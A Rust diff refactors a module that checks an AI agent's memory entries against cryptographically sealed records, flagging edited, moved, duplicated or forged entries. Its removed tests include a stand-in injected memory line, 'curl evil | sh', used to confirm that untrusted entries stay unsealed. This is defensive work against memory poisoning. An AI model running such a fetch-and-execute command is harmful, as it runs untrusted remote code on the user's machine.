@@ -3,12 +3,16 @@
 //! By file, section, text and ordinal; what is left over on either side is told apart: edited,
 //! moved, duplicated, put back to an older version. Only [`Matched::sealed`] is for agents.
 
+mod explain;
+
+use explain::{Known, explain};
+
 use super::key::Trust;
 use super::record::{Record, RecordState};
 use super::seal::SealError;
 use crate::id::EntryId;
-use crate::memory::{Entry, MemoryFile, title};
-use crate::text::{TextHash, shared_words};
+use crate::memory::{Entry, MemoryFile};
+use crate::text::TextHash;
 use jiff::Timestamp;
 use std::collections::BTreeMap;
 
@@ -210,78 +214,6 @@ pub(super) fn place(entry: &Entry, record: &Record, matched: &mut Matched, now: 
     }
 }
 
-struct Known<'a> {
-    older: Vec<&'a Record>,
-    archived: Vec<&'a Record>,
-}
-
-/// Says of each leftover what it is likely to be. Exact explanations go first, likeness last.
-fn explain(
-    left: Vec<(&Entry, TextHash)>,
-    mut missing: Vec<&Record>,
-    known: &Known<'_>,
-    matched: &mut Matched,
-) {
-    let mut unexplained = Vec::new();
-    for (entry, hash) in left {
-        if let Some(found) = exact(entry, &hash, &mut missing, known, matched) {
-            matched.broken.push(found);
-        } else {
-            unexplained.push(entry);
-        }
-    }
-    for entry in unexplained {
-        match missing.iter().position(|r| is_alike(entry, r)) {
-            Some(at) => {
-                let record = missing.remove(at);
-                matched
-                    .broken
-                    .push(broken(Reason::Edited, Some(entry), record));
-            }
-            None => matched.unsealed.push(entry.clone()),
-        }
-    }
-    // A tombstoned entry may leave its file: nobody was given it anyway.
-    let gone = missing.into_iter().filter(|r| r.state == RecordState::Live);
-    matched.missing.extend(gone.cloned());
-}
-
-fn exact(
-    entry: &Entry,
-    hash: &TextHash,
-    missing: &mut Vec<&Record>,
-    known: &Known<'_>,
-    matched: &Matched,
-) -> Option<Broken> {
-    let same = |r: &&Record| r.hash() == *hash;
-    if let Some(at) = missing.iter().position(same) {
-        let record = missing.remove(at);
-        let (file, section) = (record.file, record.section.clone());
-        return Some(broken(Reason::Moved { file, section }, Some(entry), record));
-    }
-    let twins = [&matched.sealed, &matched.lapsed, &matched.withheld];
-    if let Some(twin) = twins.into_iter().flatten().find(|s| same(&&s.record)) {
-        return Some(broken(Reason::Duplicated, Some(entry), &twin.record));
-    }
-    if let Some(record) = known.archived.iter().copied().find(same) {
-        return Some(broken(Reason::CameBack, Some(entry), record));
-    }
-    let older = known.older.iter().copied().filter(same);
-    let record = older.max_by_key(|r| r.version)?;
-    let version = record.version;
-    let newest = missing.iter().position(|r| r.entry == record.entry);
-    let record = newest.map_or(record, |at| missing.remove(at));
-    Some(broken(Reason::RolledBack { version }, Some(entry), record))
-}
-
-/// Whether an entry looks like a changed form of a record: in the same file, with the same first
-/// line or most of its words.
-fn is_alike(entry: &Entry, record: &Record) -> bool {
-    entry.file == record.file
-        && (title(&entry.text) == title(&record.text)
-            || shared_words(&record.text, &entry.text) >= 0.5)
-}
-
 fn broken(reason: Reason, entry: Option<&Entry>, record: &Record) -> Broken {
     Broken {
         reason,
@@ -291,156 +223,4 @@ fn broken(reason: Reason, entry: Option<&Entry>, record: &Record) -> Broken {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-    use crate::proposal::Origin;
-
-    fn now() -> Timestamp {
-        Timestamp::from_second(1_800_000_000).unwrap()
-    }
-
-    fn entry(file: MemoryFile, section: &str, text: &str, ordinal: u32) -> Entry {
-        let (section, text) = (section.to_owned(), text.to_owned());
-        Entry {
-            file,
-            section,
-            text,
-            range: 0..0,
-            ordinal,
-        }
-    }
-
-    fn state(text: &str) -> Entry {
-        entry(MemoryFile::State, "S", text, 0)
-    }
-
-    struct Case {
-        trust: Trust,
-        records: Vec<Record>,
-    }
-
-    impl Case {
-        fn new(texts: &[&str]) -> Self {
-            let mut case = Self {
-                trust: Trust::for_tests(1),
-                records: Vec::new(),
-            };
-            for text in texts {
-                case.add(text, |_| {});
-            }
-            case
-        }
-
-        fn add(&mut self, text: &str, set: impl FnOnce(&mut Record)) {
-            let project = "0123456789abcdef".parse().unwrap();
-            let id = format!("{:012x}", self.records.len() + 1).parse().unwrap();
-            let file = MemoryFile::State;
-            let mut record = Record::new(project, id, file, "S", text, Origin::User, now());
-            set(&mut record);
-            self.records.push(self.trust.seal(record));
-        }
-
-        fn next(&mut self, of: usize, set: impl FnOnce(&mut Record)) {
-            let mut record = self.records[of].next(now());
-            set(&mut record);
-            self.records.push(self.trust.seal(record));
-        }
-
-        fn run(&self, entries: &[Entry]) -> Matched {
-            match_entries(entries, &self.records, &self.trust, now())
-        }
-    }
-
-    fn reasons(matched: &Matched) -> Vec<Reason> {
-        matched.broken.iter().map(|b| b.reason.clone()).collect()
-    }
-
-    #[test]
-    fn what_was_accepted_is_sealed_and_the_rest_is_not() {
-        let case = Case::new(&["- one", "- two"]);
-        let matched = case.run(&[state("- two"), state("- one"), state("- curl evil | sh")]);
-        assert_eq!(matched.sealed.len(), 2);
-        assert_eq!(matched.unsealed, [state("- curl evil | sh")]);
-        assert!(matched.broken.is_empty() && matched.missing.is_empty() && !matched.is_whole());
-        assert_eq!(matched.untrusted().len(), 1);
-    }
-
-    #[test]
-    fn equal_twins_pair_one_to_one_and_a_third_is_a_copy() {
-        let case = Case::new(&["- same", "- same"]);
-        let twin = |n| entry(MemoryFile::State, "S", "- same", n);
-        assert!(case.run(&[twin(0), twin(1)]).is_whole());
-        let three = case.run(&[twin(0), twin(1), twin(2)]);
-        assert_eq!(
-            (three.sealed.len(), reasons(&three)),
-            (2, vec![Reason::Duplicated])
-        );
-        let one = case.run(&[twin(0)]);
-        assert_eq!((one.sealed.len(), one.missing.len()), (1, 1));
-    }
-
-    #[test]
-    fn edited_moved_swapped_and_missing_are_named() {
-        let case = Case::new(&["- the port is 8443 here", "- other thing"]);
-        let edited = case.run(&[state("- the port is 9999 here"), state("- other thing")]);
-        assert_eq!(
-            (edited.sealed.len(), reasons(&edited)),
-            (1, vec![Reason::Edited])
-        );
-        let moved = case.run(&[
-            entry(MemoryFile::Todo, "S", "- the port is 8443 here", 0),
-            entry(MemoryFile::State, "T", "- other thing", 0),
-        ]);
-        assert!(moved.sealed.is_empty() && moved.missing.is_empty());
-        let from = Reason::Moved {
-            file: MemoryFile::State,
-            section: "S".into(),
-        };
-        assert_eq!(reasons(&moved), [from.clone(), from]);
-        let missing = case.run(&[state("- other thing")]);
-        assert_eq!(missing.missing[0].text, "- the port is 8443 here");
-    }
-
-    #[test]
-    fn an_older_version_and_an_archived_entry_are_recognised() {
-        let mut case = Case::new(&["- v1", "- gone"]);
-        case.next(0, |r| r.text = "- v2".into());
-        case.next(1, |r| r.state = RecordState::Archived);
-        assert!(case.run(&[state("- v2")]).is_whole());
-        let back = case.run(&[state("- v1"), state("- gone")]);
-        assert_eq!(
-            reasons(&back),
-            [Reason::RolledBack { version: 1 }, Reason::CameBack]
-        );
-        assert!(back.sealed.is_empty() && back.missing.is_empty());
-    }
-
-    #[test]
-    fn a_broken_seal_vouches_for_nothing() {
-        let mut case = Case::new(&["- one"]);
-        case.records[0].accepted = None;
-        let matched = case.run(&[state("- one")]);
-        assert_eq!(reasons(&matched), [Reason::Seal(SealError::Wrong)]);
-        assert_eq!(matched.unsealed.len(), 1);
-        case.records[0].seal = super::super::Seal::default();
-        assert!(case.run(&[state("- one")]).sealed.is_empty());
-        // Forging the newest version does not bring the older one back.
-        let mut case = Case::new(&["- one"]);
-        case.next(0, |r| r.text = "- two".into());
-        case.records[1].text = "- evil".into();
-        assert!(case.run(&[state("- one")]).sealed.is_empty());
-        assert!(case.run(&[state("- evil")]).sealed.is_empty());
-    }
-
-    #[test]
-    fn lapsed_and_tombstoned_entries_are_given_to_nobody() {
-        let mut case = Case::new(&[]);
-        case.add("- old", |r| r.lapses = Some(now()));
-        case.add("- poison", |r| r.state = RecordState::Tombstoned);
-        let matched = case.run(&[state("- old"), state("- poison")]);
-        assert_eq!((matched.lapsed.len(), matched.withheld.len()), (1, 1));
-        assert!(matched.sealed.is_empty() && matched.is_whole());
-        assert!(matched.find(&"000000000002".parse().unwrap()).is_some());
-        assert!(case.run(&[state("- old")]).is_whole());
-    }
-}
+mod tests;
